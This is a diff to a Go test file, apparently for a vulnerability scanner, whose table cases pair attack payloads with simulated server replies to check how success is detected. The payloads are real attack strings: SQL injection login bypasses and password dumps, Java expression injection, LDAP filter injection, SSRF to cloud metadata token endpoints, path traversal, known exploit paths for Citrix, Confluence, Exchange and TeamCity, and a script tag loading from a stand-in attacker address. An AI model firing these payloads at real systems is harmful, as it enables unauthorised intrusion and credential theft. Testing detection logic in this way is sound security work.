@@ -82,7 +82,16 @@ func TestEffects(t *testing.T) {
 		"a list of colours":    {attempt{kind: "ssrf", payload: "http://127.0.0.1/", mime: text, body: "green open door\n"}, Unknown, ""},
 		"token of a machine":   {attempt{kind: "ssrf", payload: "http://169.254.169.254/metadata/identity/oauth2/token", mime: json, body: `{"access_token":"eyJ0eXAiOiJKV1Qi","expires_in":"86399"}`}, Success, "metadata"},
 
+		"digest behind a name":       {attempt{kind: "sqli", payload: "1 union select concat(user,0x3a,password) from users", body: "<td>ann:" + md5 + "</td>"}, Success, "digests"},
+		"product in brackets":        {attempt{kind: "injection-java", payload: "/%{(3331*2221)}/a", body: `<input value="7398151">`}, Success, "7398151"},
+		"product, in an address":     {attempt{kind: "injection-java", payload: "/${(3331*2221)}/a", status: "302", headers: "Location: /b/7398151/c\r\n"}, Success, "7398151"},
+		"product, not in an address": {attempt{kind: "injection-java", payload: "/${(3331*2221)}/a", status: "302", headers: "Location: /b/73981512/c\r\n"}, Unknown, ""},
+
 		// Exploits.
+		"Citrix, its settings":    {attempt{kind: "lfi", payload: "/vpn/../vpns/cfg/smb.conf", mime: text, body: "[global]\n\tencrypt passwords = yes\n"}, Success, "Samba"},
+		"Citrix, its bookmarks":   {attempt{kind: "lfi", payload: "/vpn/../vpns/portal/scripts/newbm.pl", body: "<script>parent.window.ns_reload();</script>"}, Success, "written"},
+		"Confluence, not set up":  {attempt{kind: "generic", payload: "bootstrapStatusProvider.applicationConfig.setupComplete=false", body: "success"}, Success, "changed"},
+		"Confluence, set up":      {attempt{kind: "generic", payload: "bootstrapStatusProvider.applicationConfig.setupComplete=false", body: "<p>Log in with success</p>"}, Unknown, ""},
 		"Exchange, as the system": {attempt{kind: "rce", payload: "/autodiscover/autodiscover.json?@x.test/mapi/nspi/", body: `<p>Exchange MAPI/HTTP Connectivity Endpoint</p><p><b>User: NT AUTHORITY\SYSTEM</b></p>`}, Success, "behind the login"},
 		"TeamCity":                {attempt{kind: "generic", payload: "/hax?jsp=/app/rest/users;.jsp", mime: "application/xml", body: `<?xml version="1.0"?><user username="a" id="11"/>`}, Success, "behind the login"},
 		"TeamCity, its login":     {attempt{kind: "generic", payload: "/hax?jsp=/app/rest/users;.jsp", body: `<html><title>Log in to TeamCity</title>`}, Unknown, ""},
@@ -103,6 +112,8 @@ func TestEffects(t *testing.T) {
 		"cron":                     {attempt{kind: "lfi", payload: "../../etc/crontab", mime: text, body: "SHELL=/bin/sh\n17 * * * * root cd / && run-parts /etc/cron.hourly\n"}, Success, "cron"},
 		"instance":                 {attempt{kind: "ssrf", payload: "http://169.254.169.254/latest/meta-data/instance-id", mime: json, body: `{"rc":200,"body":"i-0a1b2c3d4e5f60718"}`}, Success, "metadata"},
 		"filter of a directory":    {attempt{kind: "ldap", payload: "*)(uid=*))(|(uid=*", request: "uid=*)(uid=*&password=x", status: "302", headers: "Location: /portal\r\nSet-Cookie: s=1\r\n"}, Success, "login was accepted"},
+		"login, by pw":             {attempt{kind: "sqli", payload: "' or '1'='1", method: "POST", request: "user=a&pw='+or+'1'='1", status: "302", headers: "Location: /portal\r\nSet-Cookie: s=1\r\n"}, Success, "login was accepted"},
+		"login, by Senha":          {attempt{kind: "sqli", payload: "' or '1'='1", method: "POST", mime: json, request: `{"usuario":"a","Senha":"' or '1'='1"}`, body: `{"token":"0123456789"}`}, Success, "login was accepted"},
 		"filter, not let in":       {attempt{kind: "ldap", payload: "*)(uid=*))(|(uid=*", request: "uid=*)(uid=*&password=x", status: "302", headers: "Location: /?error=1\r\nSet-Cookie: s=1\r\n"}, Unknown, ""},
 		"tag that all pages have":  {attempt{kind: "xss", payload: "<script src=", body: `<p>12 hits</p><script src="/js/site.js"></script>`}, Unknown, ""},
 		"tag with the attacker's":  {attempt{kind: "xss", payload: "<script src=//198.51.100.7/a>", body: `<script src=//198.51.100.7/a></script>`}, Success, "script"},
